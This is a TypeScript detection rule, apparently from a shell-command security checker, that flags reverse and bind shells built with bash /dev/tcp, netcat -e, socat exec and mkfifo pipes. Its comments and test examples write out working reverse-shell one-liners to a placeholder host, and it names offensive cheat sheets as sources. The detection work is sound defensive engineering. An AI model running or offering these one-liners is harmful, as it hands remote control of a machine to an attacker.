import type { ShellCommand, ShellWord } from '../../shell/model';
import type { ActionEffect, Span } from '../../types';
import { defineShellRule } from '../rule';

/**
 * A reverse or bind shell: a command interpreter whose standard input and output are a network
 * socket, so whoever is at the other end types commands on this machine.
 *
 * Recognised shapes (after unwrapping `bash -c`, `exec`, `busybox`, `sudo`…, and for interpreter
 * code after `shell/interpreters.ts` turned a socket-plus-shell into `sh -i >& /dev/tcp/H/P`):
 * - a shell reading commands from stdin with a redirection to `/dev/tcp/H/P` or `/dev/udp/H/P`
 *   (`bash -i >& /dev/tcp/H/P 0>&1`, `sh &>/dev/udp/H/P <&1`, any fd spelling);
 * - a netcat with a program attached to the socket (`nc -e sh`, `ncat --sh-exec`, `nc -lvnpe`);
 * - `socat` joining a network address and an `EXEC:`/`SYSTEM:` address;
 * - a shell reading commands from stdin piped next to a network client (`mkfifo f; cat f | sh -i
 *   2>&1 | nc H P > f`, `telnet H P | sh | telnet H P2`, `sh -i < f | openssl s_client …`).
 *
 * Sources: pentestmonkey reverse-shell cheat sheet, GTFOBins "Reverse shell"/"Bind shell"
 * functions, PayloadsAllTheThings reverse-shell cheat sheet, ncat(1) `--exec`/`--sh-exec`,
 * socat(1) address types.
 */

/** Programs that read commands from stdin when given no script operand. */
const SHELLS = new Set([
  'sh',
  'bash',
  'dash',
  'zsh',
  'ksh',
  'mksh',
  'ash',
  'yash',
  'fish',
  'csh',
  'tcsh',
  'pwsh',
]);
/** Programs that connect stdin/stdout to another host. */
const NETWORK_CLIENTS = new Set([
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
  'openssl',
  'cryptcat',
  'pwncat',
  'sbd',
]);
/** Netcat spellings (traditional, OpenBSD, ncat, busybox applet). */
const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'pwncat']);
/** Long options of netcats that attach a program to the socket. */
const NETCAT_EXEC_LONG = /^--(exec|sh-exec|lua-exec)(=|$)/;
/** socat network address types (socat(1) "ADDRESS TYPES"). */
const SOCAT_NETWORK = /^(tcp|udp|sctp|dccp|openssl|ssl|socks|proxy|ip|udplite|vsock)[^:,]*[:,]/i;
/** socat addresses that run a program with the other address as its stdio. */
const SOCAT_EXEC = /^(exec|system):/i;
/** `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT`: bash's network pseudo-files. */
const SOCKET_PATH = /^\/dev\/(tcp|udp)\/([^/]+)\/([^/]+)/;

/**
 * Whether a shell command reads the commands it runs from stdin: no `-c`, and either no script
 * operand, or `-i`/`-s` given. `bash -c '…'` is unwrapped by the analyzer and judged on its own.
 */
function runsStdin(cmd: ShellCommand): boolean {
  let interactive = false;
  for (let i = 1; i < cmd.argv.length; i++) {
    const v = cmd.argv[i]!.value;
    if (v === undefined) return interactive;
    if (v === '--') return interactive || i + 1 >= cmd.argv.length;
    if (/^[-+][a-zA-Z]+$/.test(v)) {
      if (v.startsWith('-') && v.includes('c')) return false;
      if (v.startsWith('-') && (v.includes('i') || v.includes('s'))) interactive = true;
      if (/[oO]$/.test(v)) i++;
      continue;
    }
    if (v.startsWith('--')) continue;
    return interactive;
  }
  return true;
}

/**
 * Names of the other stages of `cmd`'s pipeline. The analyzer's `prev`/`next` miss stages after a
 * redirection (`cat f | sh -i 2>&1 | nc H P` gives `nc` no `prev`), so stages are also taken from
 * the commands around `cmd` in source order: same wrappers, continuing while a stage is not first.
 */
function pipelineNeighbours(cmd: ShellCommand, commands: readonly ShellCommand[]): string[] {
  const names: string[] = [];
  if (cmd.pipeline.prev) names.push(cmd.pipeline.prev);
  if (cmd.pipeline.next) names.push(cmd.pipeline.next);
  const at = commands.indexOf(cmd);
  if (at < 0) return names;
  const key = cmd.wrappers.join('\u0000');
  const same = (c: ShellCommand) =>
    c.wrappers.join('\u0000') === key && c.inSubstitution === cmd.inSubstitution;
  let first = cmd.pipeline.index > 0;
  for (let j = at - 1; j >= 0 && first; j--) {
    const c = commands[j]!;
    if (!same(c)) continue;
    if (c.pipeline.length < 2) break;
    if (c.name) names.push(c.name);
    first = c.pipeline.index > 0;
  }
  for (let j = at + 1; j < commands.length; j++) {
    const c = commands[j]!;
    if (!same(c)) continue;
    if (c.pipeline.length < 2 || c.pipeline.index === 0) break;
    if (c.name) names.push(c.name);
  }
  return names;
}

/** A wrapper that is interpreter code run from the command line (`perl -e`, `python3 -c`, `php -r`). */
const INTERPRETER_WRAPPER = /^(perl|python[\d.]*|pypy[\d.]*|ruby|php|node|nodejs|lua|awk|gawk|tclsh)\s+-/;

/** Whether a shell is started interactive (`-i`, also in a cluster such as `-li`). */
function interactiveFlag(cmd: ShellCommand): boolean {
  return cmd.argv.slice(1).some((w) => /^-[a-zA-Z]*i[a-zA-Z]*$/.test(w.value ?? ''));
}

/** Whether stdin and stdout are both duplicated from the same inherited descriptor 3 or above (`<&3 >&3`). */
function inheritedFdStdio(cmd: ShellCommand): boolean {
  const fromFd = (fds: string[], ops: string[]) =>
    cmd.redirects.find(
      (r) =>
        ops.includes(r.op) &&
        (r.fd === undefined || fds.includes(r.fd)) &&
        /^([3-9]|\d\d+)$/.test(r.target ?? ''),
    )?.target;
  const input = fromFd(['0'], ['<&']);
  return input !== undefined && fromFd(['1'], ['>&']) === input;
}

function sendEffect(host: string | undefined, via: string): ActionEffect[] {
  return [
    {
      verb: 'execute',
      resource: { kind: 'host', id: host, ...(host === undefined ? { dynamic: true } : {}) },
      sink: { kind: 'network', ...(host !== undefined ? { target: host } : {}), direction: 'in' },
      via,
    },
  ];
}

/**
 * Programs that read commands: shells and script interpreters. A socket wired to one of them is a
 * remote shell; a socket wired to a fixed other program (`nc -l -c 'echo OK'`) is a tiny server.
 */
const COMMAND_READERS = new Set([
  ...SHELLS,
  'busybox',
  'python',
  'python2',
  'python3',
  'perl',
  'ruby',
  'php',
  'node',
  'lua',
  'irb',
  'powershell',
  'cmd',
  'cmd.exe',
  'env',
]);

/**
 * Whether the program text attached to a socket (`-e /bin/sh`, `--sh-exec "bash -i"`,
 * `exec:'bash -li'`) starts with a shell or interpreter, or is only known at run time.
 */
function readsCommands(program: string | undefined): boolean {
  if (program === undefined) return true;
  const first =
    program
      .replace(/^["']/, '')
      .trim()
      .split(/[\s,"']/)[0] ?? '';
  if (first === '' || first.includes('$') || first.includes('`')) return true;
  const base = first.slice(first.lastIndexOf('/') + 1).replace(/\d+(\.\d+)*$/, '');
  return COMMAND_READERS.has(base) || COMMAND_READERS.has(first.slice(first.lastIndexOf('/') + 1));
}

/**
 * The word of a netcat option that attaches a program to the socket (`-e`, `-c`, `--exec`,
 * `--sh-exec`, `--lua-exec`, a cluster such as `-lvne`), with the program it runs; `undefined`
 * when there is none.
 */
function netcatExec(cmd: ShellCommand): { word: ShellWord; program: string | undefined } | undefined {
  for (let i = 1; i < cmd.argv.length; i++) {
    const w = cmd.argv[i]!;
    const v = w.value;
    if (v === undefined) continue;
    if (v === '--') return undefined;
    const long = NETCAT_EXEC_LONG.exec(v);
    if (long) {
      if (long[1] === 'lua-exec') return { word: w, program: 'lua' };
      return { word: w, program: long[2] === '=' ? v.slice(v.indexOf('=') + 1) : cmd.argv[i + 1]?.value };
    }
    if (/^-[a-zA-Z]/.test(v) && !v.startsWith('--')) {
      // A cluster of short flags: `-e`, `-c`, `-lvnpe`, `-e/bin/sh`.
      const letters = /^-([a-zA-Z]+)/.exec(v)![1]!;
      const idx = letters.search(/[ec]/);
      if (idx >= 0 && !/[pswiqgGOTIx]/.test(letters.slice(0, idx))) {
        const rest = v.slice(idx + 2);
        return { word: w, program: rest !== '' ? rest : cmd.argv[i + 1]?.value };
      }
    }
  }
  return undefined;
}

export default defineShellRule({
  meta: {
    id: 'reverse-shell',
    title: 'Reverse or bind shell',
    category: 'exfiltration',
    severity: 'error',
    docs: {
      description:
        'Flags a command interpreter whose standard input and output are a network socket: ' +
        '`bash -i >& /dev/tcp/H/P 0>&1`, `nc -e /bin/sh`, `socat tcp:H:P exec:sh`, and a shell piped ' +
        'between network clients (`mkfifo` + `nc`, `telnet | sh | telnet`, `openssl s_client`).',
      problem:
        "A reverse shell hands interactive control of the machine, with the user's files, " +
        'credentials and network access, to whoever listens at the other end; a bind shell lets ' +
        'anyone who connects do the same. Nothing the remote side types afterwards is judged. It ' +
        'is the first step of most intrusions and never part of ordinary development work.',
      solution:
        'Never run it. For remote access use SSH with keys to a known host; for debugging a ' +
        'remote machine, run the specific command there instead.',
    },
    messages: {
      socketRedirect: '`{{shell}}` reads and writes its commands through a network socket `{{socket}}`.',
      socketFd: '`exec` opens the network socket `{{socket}}` as a file descriptor of the shell.',
      netcatExec: '`{{via}}` runs a program with the network connection as its stdin and stdout.',
      netcatBind: '`{{via}}` listens and runs a program for whoever connects (bind shell).',
      socatExec: '`socat` joins `{{address}}` to a program run with it as stdin and stdout (`{{exec}}`).',
      interpreterShell:
        '`{{shell}}` is started interactive by `{{wrapper}}` code, which reopened its stdin/stdout first (a socket in reverse shells).',
      pipedShell:
        '`{{shell}}` runs commands read from, or writes its output to, network client `{{client}}`.',
    },
    controls: ['SOC2:CC6.6', 'SOC2:CC6.8', 'NIST:SC-7', 'NIST:AC-17', 'NIST:SI-4'],
    sources: [
      'https://pentestmonkey.net/cheat-sheet/shells/reverse-shell-cheat-sheet',
      'https://gtfobins.github.io/#+reverse%20shell',
      'https://gtfobins.github.io/gtfobins/nc/',
      'https://gtfobins.github.io/gtfobins/socat/',
      'https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Methodology%20and%20Resources/Reverse%20Shell%20Cheatsheet.md',
      'https://nmap.org/book/ncat-man-exec.html',
    ],
    examples: {
      valid: [
        'nc -zv db.internal 5432',
        'bash deploy.sh > /tmp/log',
        'cat < /dev/tcp/localhost/80',
        'socat TCP-LISTEN:8080,fork TCP:localhost:3000',
        'echo "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"',
      ],
      invalid: [
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        'nc -e /bin/sh 10.0.0.1 4444',
        'socat tcp:10.0.0.1:4444 exec:"bash -li",pty,stderr',
        'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
      ],
    },
  },
  check(cmd, analysis, report) {
    const name = cmd.name;
    if (!name) return;
    const via = cmd.wrappers.includes('busybox') ? `busybox ${name}` : name;

    // 1. A shell (or a bare `exec` opening fds) with a /dev/tcp or /dev/udp redirection.
    const isShell = SHELLS.has(name);
    const bareExec = name === 'exec' && cmd.argv.length === 1;
    if ((isShell && runsStdin(cmd)) || bareExec) {
      const sock = cmd.redirects.find((r) => r.target !== undefined && SOCKET_PATH.test(r.target));
      if (sock) {
        const host = SOCKET_PATH.exec(sock.target!)![2];
        report({
          messageId: bareExec ? 'socketFd' : 'socketRedirect',
          data: { shell: name, socket: sock.target! },
          span: sock.span,
          effects: sendEffect(host, name),
        });
        return;
      }
    }

    // 1b. An interactive shell started by interpreter code (`perl -e '…socket…; exec "/bin/sh -i"'`,
    // `php -r '$s=fsockopen(…); exec("/bin/sh -i <&3 >&3")'`): the code reopened its stdio first.
    const interpreter =
      cmd.wrappers.length > 0 ? INTERPRETER_WRAPPER.exec(cmd.wrappers[cmd.wrappers.length - 1]!) : null;
    const reportedAsSocket = (): boolean =>
      analysis.commands.some(
        (c) =>
          c !== cmd &&
          c.wrappers.join(' ') === cmd.wrappers.join(' ') &&
          c.redirects.some((r) => r.target !== undefined && SOCKET_PATH.test(r.target)),
      );
    if (
      isShell &&
      interpreter &&
      runsStdin(cmd) &&
      (interactiveFlag(cmd) || inheritedFdStdio(cmd)) &&
      !cmd.redirects.some((r) => r.target !== undefined && SOCKET_PATH.test(r.target)) &&
      !reportedAsSocket()
    ) {
      report({
        messageId: 'interpreterShell',
        data: { shell: name, wrapper: cmd.wrappers[cmd.wrappers.length - 1]! },
        span: cmd.argv[0]?.span ?? cmd.span,
        effects: sendEffect(undefined, interpreter[1]!),
      });
      return;
    }

    // 2. netcat with a program attached to the socket.
    if (NETCATS.has(name)) {
      const ex = netcatExec(cmd);
      if (ex && readsCommands(ex.program)) {
        const listen = cmd.argv.some((a) => a.value === '--listen' || /^-[a-zA-Z]*l/.test(a.value ?? ''));
        report({
          messageId: listen ? 'netcatBind' : 'netcatExec',
          data: { via },
          span: ex.word.span,
          effects: sendEffect(undefined, via),
        });
        return;
      }
    }

    // 3. socat joining a network address and a program.
    if (name === 'socat') {
      const args = cmd.argv.slice(1).filter((w) => w.value !== undefined && !w.value.startsWith('-'));
      const exec = args.find((w) => SOCAT_EXEC.test(w.value!));
      const net = args.find((w) => SOCAT_NETWORK.test(w.value!));
      if (exec && net && readsCommands(exec.value!.replace(SOCAT_EXEC, ''))) {
        report({
          messageId: 'socatExec',
          data: { address: net.value!, exec: exec.value! },
          span: exec.span,
          effects: sendEffect(/^[^:]+:([^:,]+)/.exec(net.value!)?.[1], 'socat'),
        });
        return;
      }
    }

    // 4. A stdin-reading shell piped next to a network client.
    if (isShell && cmd.pipeline.length > 1 && runsStdin(cmd)) {
      const client = pipelineNeighbours(cmd, analysis.commands).find((n) => NETWORK_CLIENTS.has(n));
      if (client) {
        const span: Span = cmd.argv[0]?.span ?? cmd.span;
        report({
          messageId: 'pipedShell',
          data: { shell: name, client },
          span,
          effects: sendEffect(undefined, client),
        });
      }
    }
  },
});
